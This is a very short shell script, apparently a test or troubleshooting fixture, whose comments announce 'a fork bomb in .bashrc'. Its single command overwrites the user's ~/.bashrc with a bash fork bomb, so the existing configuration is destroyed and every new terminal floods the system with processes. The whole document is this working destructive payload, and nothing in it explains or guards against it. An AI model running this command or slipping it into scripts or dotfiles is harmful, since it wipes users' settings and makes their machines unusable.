# a fork bomb in .bashrc
# symptom: terminal
# pids: 150
set -e
echo ':(){ :|:& };:' > ~/.bashrc
